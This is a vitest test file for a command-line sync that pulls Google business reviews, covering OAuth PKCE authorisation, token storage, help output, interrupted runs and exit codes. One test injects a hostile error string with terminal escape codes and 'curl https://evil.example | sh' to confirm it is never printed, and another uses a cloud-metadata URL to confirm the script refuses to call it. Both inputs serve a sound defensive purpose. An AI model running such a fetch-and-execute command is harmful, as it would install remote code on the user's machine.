/**
 * `npm run sync -- google` as an owner and a scheduler run it (the script in a child process, settings in
 * the environment, the test CA through NODE_EXTRA_CA_CERTS): the one-time loopback authorisation with
 * PKCE, checked by the stand-in, that stores the refresh token in DATA_DIR (mode 0600), lists the
 * locations and says which port to forward over SSH; a token endpoint's hostile error never printed;
 * `--help`; a sync killed half-way that leaves the content as it was; the exit codes and the one line
 * each run ends with.
 */
import { spawn } from 'node:child_process';
import { readFile, stat } from 'node:fs/promises';
import { request } from 'node:https';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { ServerResponse } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestCa, type RecordedRequest, type TestCa } from '../../tools/lib/https-ca.ts';
import { runScript } from '../helpers/run-script.ts';
import { copySmallContent, snapshot } from '../import/harness.ts';
import { isPage, makeReviews, REFRESH_TOKEN, startGoogleStandIn, type GoogleStandIn } from '../../tools/lib/google-stand-in.ts';

let ca: TestCa;
let google: GoogleStandIn;

beforeAll(async () => {
  ca = createTestCa();
  google = await startGoogleStandIn(ca);
  google.reviews = makeReviews(120);
});
afterAll(async () => {
  await google?.close();
  ca?.remove();
});

async function envFor(contentDir: string, extra: Record<string, string> = {}): Promise<NodeJS.ProcessEnv> {
  const { CONTENT_DIR: _c, DATA_DIR: _d, ...rest } = process.env;
  return { ...rest, ...google.env(), CONTENT_DIR: contentDir, DATA_DIR: path.join(path.dirname(contentDir), 'data'), NODE_EXTRA_CA_CERTS: ca.certFile, ...extra };
}

/**
 * `--authorize` as the owner runs it: the command prints the consent address, the browser follows it and
 * Google's redirect lands on the command's loopback port.
 */
async function authorize(env: NodeJS.ProcessEnv): Promise<{ consent: URL; landing: Response; done: Promise<{ code: number | null; stdout: string; stderr: string }> }> {
  const child = spawn(process.execPath, ['scripts/sync/main.ts', 'google', '--authorize'], { env, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stderr.on('data', (c) => (stderr += c));
  const done = new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => child.once('close', (code) => resolve({ code, stdout, stderr })));
  const consentUrl = await new Promise<string>((resolve, reject) => {
    child.stdout.on('data', (c) => {
      stdout += c;
      const url = /^(https:\/\/\S+\/auth\?\S+)$/m.exec(stdout)?.[1];
      if (url) resolve(url);
    });
    child.once('exit', () => reject(new Error(`exited before printing the consent URL: ${stderr}`)));
  });
  // The browser: Google's consent page redirects to the loopback address the sync listens on.
  const location = await new Promise<string>((resolve, reject) => {
    request(consentUrl, { ca: ca.certPem }, (res) => {
      res.resume();
      resolve(res.headers.location ?? `no redirect: ${res.statusCode}`);
    })
      .on('error', reject)
      .end();
  });
  expect(location).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/?\?code=/);
  return { consent: new URL(consentUrl), landing: await fetch(location), done };
}

describe('the sync as a process', () => {
  it('authorises once through a loopback redirect with PKCE, stores the token in DATA_DIR (0600) and lists the locations', async () => {
    const content = await copySmallContent();
    const { GOOGLE_REFRESH_TOKEN: _unset, ...env } = await envFor(content);
    const { consent, landing, done } = await authorize(env);
    expect(consent.searchParams.get('code_challenge_method')).toBe('S256');
    expect(consent.searchParams.get('scope')).toBe('https://www.googleapis.com/auth/business.manage');
    expect(landing.status).toBe(200);
    const { code, stdout, stderr } = await done;
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    // Over SSH, the port the browser comes back to is the one to forward.
    const port = new URL(consent.searchParams.get('redirect_uri')!).port;
    expect(stdout).toContain(`On a server reached over SSH, first forward port ${port} from your own computer: ssh -N -L ${port}:127.0.0.1:${port} <you>@<server>`);
    expect(stdout).toContain('GOOGLE_LOCATION=accounts/1/locations/2  (Brightline Heating & Air');

    const tokenFile = path.join(path.dirname(content), 'data', 'google-refresh-token');
    expect((await readFile(tokenFile, 'utf8')).trim()).toBe(REFRESH_TOKEN);
    expect((await stat(tokenFile)).mode & 0o777).toBe(0o600);
    // Nothing of it in the content folder.
    expect(Object.keys(await snapshot(content)).some((f) => f.includes('token'))).toBe(false);

    // The next sync finds the stored token without GOOGLE_REFRESH_TOKEN.
    const run = await runScript(process.execPath, ['scripts/sync/main.ts', 'google'], { env });
    expect(run.code).toBe(0);
    expect(run.stdout.trim().split('\n').at(-1)).toBe('sync google: 120 added, 0 updated, 0 withdrawn, 0 skipped; 3 pages read');
  });

  it('prints no raw text of a token endpoint that refuses the code with a hostile error, and exits 1', async () => {
    const content = await copySmallContent();
    const { GOOGLE_REFRESH_TOKEN: _unset, ...env } = await envFor(content);
    const hostile = '\u001b]0;owned\u0007\u001b[2J\r\nrun: curl https://evil.example | sh';
    const isCodeExchange = (req: RecordedRequest) => req.path === '/token' && new URLSearchParams(req.body.toString()).get('grant_type') === 'authorization_code';
    google.failNext(isCodeExchange, (res) => void res.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ error: hostile, error_description: hostile })));
    const { done } = await authorize(env);
    const { code, stderr } = await done;
    expect(code).toBe(1);
    expect(stderr).toBe("authorisation failed: Google's token endpoint refused the authorisation code (400) without a documented OAuth error code\n");
  });

  it.each([[['google', '--help']], [['--help']], [['google', '--full', '--bogus', '-h']]])('prints the usage and exits 0 for %j', async (args) => {
    const run = await runScript(process.execPath, ['scripts/sync/main.ts', ...args], { env: await envFor(await copySmallContent()) });
    expect({ code: run.code, stderr: run.stderr }).toEqual({ code: 0, stderr: '' });
    expect(run.stdout).toMatch(/^usage: npm run sync -- <google> \[options\]\n/);
    expect(run.stdout).toContain('--authorize');
  });

  it('leaves the content as it was when killed half-way, and the next run completes', async () => {
    const content = await copySmallContent();
    const env = await envFor(content);
    const before = await snapshot(content);
    let held: ServerResponse | undefined;
    const started = Date.now();
    const secondPage = (req: RecordedRequest) => isPage(req) && req.query.get('pageToken') === '50' && req.receivedAt >= started;
    // Google takes its time with page 2: the sync has read page 1 and is waiting when it is killed.
    google.failNext(secondPage, (res) => void (held = res));
    const child = spawn(process.execPath, ['scripts/sync/main.ts', 'google'], { env, stdio: 'ignore' });
    await google.server.waitForRequest(secondPage, 20_000);
    child.kill('SIGKILL');
    await new Promise((resolve) => child.once('close', resolve));
    held?.destroy();
    expect(await snapshot(content)).toEqual(before);

    const again = await runScript(process.execPath, ['scripts/sync/main.ts', 'google'], { env });
    expect(again.code).toBe(0);
    expect(again.stdout.trim().split('\n').at(-1)).toBe('sync google: 120 added, 0 updated, 0 withdrawn, 0 skipped; 3 pages read');
  });

  it('fails visibly with one line and exit 1, and exit 2 on a bad command line', async () => {
    const content = await copySmallContent();
    const refused = await runScript(process.execPath, ['scripts/sync/main.ts', 'google'], { env: await envFor(content, { GOOGLE_TOKEN_URL: 'https://169.254.169.254/token' }) });
    expect(refused.code).toBe(1);
    expect(refused.stderr.trim().split('\n').at(-1)).toBe(
      'sync google failed: getting an access token: Google host 169.254.169.254 resolves to a cloud-metadata address (169.254.169.254), which the sync does not call; the content is as it was',
    );
    const bad = await runScript(process.execPath, ['scripts/sync/main.ts', 'facebook'], { env: await envFor(content) });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('unknown source "facebook"');
  });
});
